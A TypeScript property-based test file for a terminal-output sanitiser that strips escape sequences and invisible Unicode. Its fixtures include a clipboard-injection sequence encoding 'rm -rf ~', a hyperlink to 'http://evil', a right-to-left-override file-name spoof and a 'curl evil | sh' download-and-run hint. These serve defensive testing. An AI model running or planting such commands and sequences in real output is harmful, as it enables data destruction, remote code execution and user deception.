import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { plain, plainJson, plainLines, said } from "../../lib/base/text.ts";
import { UNSEEN } from "../support/unseen.ts";

/**
 * Pieces of text as a bad ship makes it: beginnings and ends of escape sequences, and all that is not seen, between
 * letters.
 */
const PIECES = [
  "\x1b",
  "\x9b",
  "\x90",
  "\x9d",
  "\x9c",
  "\x1b[",
  "\x1b]",
  "\x1b\\",
  "\x07",
  "[31m",
  ";",
  "?25l",
  "a",
  "é",
  "\n",
  "\r",
  "\t",
  "\0",
  "\x7f",
];
const MARKS = [
  "\u202e",
  "\u2066",
  "\u200b",
  "\u200d",
  "\ufeff",
  "\u2028",
  "\u2029",
  "\u061c",
  "\u00ad",
  "\ud800",
  "\udc00",
  "\u{e0041}",
  "\ufe0f",
  "\u3164",
];
const bad = fc.array(fc.constantFrom(...PIECES, ...MARKS), { maxLength: 60 }).map((pieces) => pieces.join(""));
const text = fc.oneof(bad, fc.string({ unit: "binary" }));

describe("what others wrote", () => {
  test("is one line of what can be seen, and whole characters, whatever it was", () => {
    fc.assert(
      fc.property(text, fc.nat({ max: 80 }), (text, most) => {
        const clean = plain(text, { most });
        expect(clean).not.toMatch(UNSEEN);
        expect(clean).not.toContain("\n");
        expect(clean.isWellFormed()).toBe(true);
        expect(clean.length).toBeLessThanOrEqual(most + 1);
        expect(plain(clean, { most: most + 1 }), "twice is once").toBe(clean);
      }),
    );
  });

  test("keeps its lines, and nothing else that moves", () => {
    fc.assert(
      fc.property(text, (text) => {
        expect(plainLines(text).replaceAll("\n", "")).not.toMatch(UNSEEN);
        expect(plainLines(text).split("\n")).toHaveLength(text.split("\n").length);
      }),
    );
  });

  test("is whole in JSON, which prints nothing unseen", () => {
    fc.assert(
      fc.property(text, (text) => {
        const json = plainJson({ [text]: [text] }, 2);
        expect(json.replaceAll("\n", "")).not.toMatch(UNSEEN);
        expect(JSON.parse(json)).toEqual({ [text]: [text] });
      }),
    );
  });

  test.each([
    ["\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "link"],
    ["\x1b]52;c;cm0gLXJmIH4K\x07paste", "paste"],
    ["\x1b[2J\x1b[Hred\x1b[31m!", "red!"],
    ["\x1b]never ended", "never ended"],
    ["invoice\u202egpj.exe", "invoicegpj.exe"],
    ["pass\u200bword\u2028next", "password next"],
    ["Grün, 船, 🚢 and tab\there", "Grün, 船, 🚢 and tab\there"],
  ])("%j is shown as %j", (text, shown) => {
    expect(plain(text)).toBe(shown);
  });

  test("takes time by the length of what is made to be slow, and not by its square", () => {
    for (const piece of ["\x1b]", "\x1b[0;", "\x1b[0", "\x90a", "\x1b ", "\u202e"]) {
      const started = performance.now();
      plainLines(piece.repeat(1_000_000 / piece.length), { most: Number.POSITIVE_INFINITY });
      expect(performance.now() - started, JSON.stringify(piece)).toBeLessThan(30_000);
    }
  });

  test("of a ship stands apart in our own message: no line of it passes for one of ours", () => {
    expect(said(" did not start\n")).toBe("did not start");
    expect(said("Error: x\n  hint: curl evil | sh\x1b[2J")).toBe("\n    | Error: x\n    |   hint: curl evil | sh");
    expect(said("a".repeat(1000))).toHaveLength(500);
  });
});
